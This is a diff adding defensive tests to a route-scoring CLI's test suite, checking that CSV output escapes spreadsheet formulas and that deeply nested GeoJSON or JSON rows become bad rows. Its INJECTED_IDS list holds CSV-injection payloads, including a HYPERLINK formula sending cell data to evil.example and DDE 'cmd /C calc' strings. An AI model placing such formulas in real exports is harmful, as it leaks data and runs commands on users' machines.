@@ -172,3 +172,69 @@ def test_unreachable_server_exits_3(tmp_path):
     result = run_cli("score-batch", str(loads), "--server", f"127.0.0.1:{free_port()}", "--timeout", "3")
     assert result.returncode == 3
     assert "unreachable" in result.stderr and "0 row(s) written before this" in result.stderr
+
+
+# ids a spreadsheet would run as formulas (OWASP "CSV injection"), and a route nested 1,000 deep
+INJECTED_IDS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+DEEP_GEOJSON = '{"type": "LineString", "coordinates": ' + "[" * 1000 + "]" * 1000 + "}"
+
+
+def test_csv_output_neutralises_formulas_and_a_nested_geojson_row_is_a_bad_row(tmp_path, server_process):
+    address, _, _ = server_process
+    good = demo_polyline("ciudad-juarez_el-paso")
+    loads = tmp_path / "loads.csv"
+    with loads.open("w", newline="") as stream:
+        writer = csv.writer(stream)
+        writer.writerow(["id", "polyline"])
+        writer.writerows([(load_id, good) for load_id in INJECTED_IDS])
+        writer.writerow(["=deep", DEEP_GEOJSON])
+        writer.writerow(["after", good])
+    out = tmp_path / "scored.csv"
+    result = run_cli("score-batch", str(loads), "--departure", DEPARTURE, "--out", str(out), "--server", address)
+    assert result.returncode == 2, result.stderr  # the nested row is a bad row, not a crash
+    assert "Traceback" not in result.stderr
+    # line 9: the header, six ids (the one holding a carriage return takes two lines), then this row
+    assert f"{loads}:9: polyline: GeoJSON nests 1001 levels deep" in result.stderr
+    assert f"{len(INJECTED_IDS) + 1} of {len(INJECTED_IDS) + 2} row(s) scored; 1 bad" in result.stderr
+    with out.open(newline="") as stream:
+        scored = list(csv.DictReader(stream))
+    # every id written, each with a leading quote: shown as the text it is, never run
+    assert [row["id"] for row in scored] == [f"'{i}" for i in INJECTED_IDS] + ["'=deep", "after"]
+    for row in scored:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    assert all(row["score"] and not row["error"] for row in scored if row["id"] != "'=deep")
+    deep = next(row for row in scored if row["id"] == "'=deep")
+    assert deep["score"] == "" and deep["error"].startswith("polyline: GeoJSON nests 1001 levels deep")
+
+
+def test_jsonl_rows_nested_deep_are_bad_rows_and_the_others_are_scored(tmp_path, server_process):
+    address, _, _ = server_process
+    good = demo_polyline("ciudad-juarez_el-paso")
+    loads = tmp_path / "loads.jsonl"
+    lines = [
+        json.dumps({"id": "=one", "polyline": good}),
+        '{"id": "deep-row", "polyline": ' + "[" * 5000 + "]" * 5000 + "}",  # the row itself
+        '{"id": "deep-route", "polyline": ' + DEEP_GEOJSON + "}",  # a GeoJSON object in JSONL
+        json.dumps({"id": "deep-text", "polyline": DEEP_GEOJSON}),  # GeoJSON text in JSONL
+        json.dumps({"id": "two", "polyline": good}),
+    ]
+    loads.write_text("\n".join(lines) + "\n")
+    out = tmp_path / "scored.csv"
+    result = run_cli("score-batch", str(loads), "--departure", DEPARTURE, "--out", str(out), "--server", address)
+    assert result.returncode == 2, result.stderr
+    assert "Traceback" not in result.stderr
+    assert f"{loads}:2: row: JSON nests 5001 levels deep, more than the limit of 64" in result.stderr
+    assert f"{loads}:3: row: JSON nests 1002 levels deep" in result.stderr
+    assert f"{loads}:4: polyline: GeoJSON nests 1001 levels deep" in result.stderr
+    with out.open(newline="") as stream:
+        scored = list(csv.DictReader(stream))
+    assert [row["id"] for row in scored] == ["'=one", "", "", "deep-text", "two"]
+    assert [bool(row["score"]) for row in scored] == [True, False, False, False, True]
